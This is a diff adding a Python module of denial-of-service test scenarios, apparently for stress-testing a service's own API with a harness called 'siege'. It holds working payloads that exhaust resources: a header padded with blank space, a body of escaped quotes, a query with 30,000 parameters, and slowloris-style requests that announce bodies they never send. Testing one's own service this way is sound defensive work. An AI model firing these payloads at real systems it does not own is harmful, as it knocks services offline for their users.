@@ -1,0 +1,90 @@
+"""Attacks by single requests: headers and bodies that take long to parse, and bodies that are announced."""
+
+import asyncio
+from itertools import cycle, islice
+
+from siege.attack import attack
+from siege.attacker import Attacker
+from siege.http1 import Connection
+from siege.sockets import Sockets
+
+ORIGIN = "https://hostile.example"
+HOLD_SECONDS = 5
+"""How long a connection is kept that has sent its request."""
+
+
+@attack("20 requests a second with 16 kB of blanks in a header")
+async def blanks_in_accept_encoding(attacker: Attacker) -> None:
+    """Asks for the embed script with blanks between two words of Accept-Encoding, as nginx passes it on.
+
+    A single one held the loop for seconds; 60,000 blanks, until the worker was killed.
+    """
+    await attacker.begin()
+    values = cycle(("a" + " " * 16_000 + "b", "a" + " " * 990 + "b", "a," * 500))
+
+    async def send(_: int) -> None:
+        await _request(attacker, "GET", "/embed.js", {"accept-encoding": next(values)})
+
+    await attacker.at_rate(20, send)
+
+
+@attack("10 requests a second of 64 kB")
+async def escaped_quotes(attacker: Attacker) -> None:
+    """Sends a malformed body with 32,000 escaped quotes, with nothing but the Origin of a keyless key.
+
+    A quarter of it held the loop for seconds; this, until the worker was killed.
+    """
+    key = {"kind": "keyless", "allowedOrigins": [ORIGIN]}
+    await attacker.send("POST", "/v1/manage/keys", key)
+    body = b'{"venue":"' + b'\\"' * 32_000 + b"\\x"
+    headers = {"origin": ORIGIN, "content-type": "application/json"}
+    await attacker.begin()
+    await attacker.at_rate(10, lambda _: _request(attacker, "POST", "/v1/sessions", headers, body))
+
+
+@attack("20 requests a second of 60 kB, each with a query of 30,000 parameters")
+async def many_parameters(attacker: Attacker) -> None:
+    """Asks for a preview with a query of very many parameters. Each took a tenth of a second of the loop."""
+    await attacker.begin()
+    path = "/v1/seats/preview?" + "a&" * 30_000
+    await attacker.at_rate(20, lambda _: attacker.send("GET", path))
+
+
+@attack("300 requests a second of a few bytes, with four keys of one tenant")
+async def announced_bodies(attacker: Attacker) -> None:
+    """Asks for what needs no body, announces one, and does not send it.
+
+    Each was answered after 5 seconds and counted for nobody, so that 600 a second filled the worker.
+    """
+    keys = [attacker.task.key]
+    for _ in range(3):
+        made = await attacker.send("POST", "/v1/manage/keys", {})
+        keys += [] if made is None or made.status != 201 else [made.json()["plaintext"]]
+    requests = [
+        f"{line} HTTP/1.1\r\nhost: service\r\nauthorization: Bearer {key}\r\n{announced}\r\n\r\n".encode()
+        for line in ("GET /v1/caller", "HEAD /v1/caller", "GET /embed.js", "DELETE /v1/sessions/ses_0")
+        for key in keys
+        for announced in ("content-length: 9", "transfer-encoding: chunked")
+    ]
+    await attacker.begin()
+
+    async def hold(first: int) -> None:
+        with Sockets(attacker) as sockets:
+            await sockets.open_each(islice(cycle(requests), first, first + 300), per_second=300)
+            await asyncio.sleep(min(HOLD_SECONDS, attacker.seconds_left))
+
+    rounds: set[asyncio.Task[None]] = set()
+    while attacker.seconds_left:
+        rounds.add(asyncio.create_task(hold(len(rounds))))
+        await asyncio.sleep(min(1, attacker.seconds_left))
+    await asyncio.gather(*rounds)
+
+
+async def _request(
+    attacker: Attacker, method: str, path: str, headers: dict[str, str], body: bytes = b""
+) -> None:
+    try:
+        async with Connection(attacker.address) as connection:
+            attacker.count(str((await connection.request(method, path, headers, body)).status))
+    except (OSError, EOFError, asyncio.IncompleteReadError):
+        attacker.count("closed")
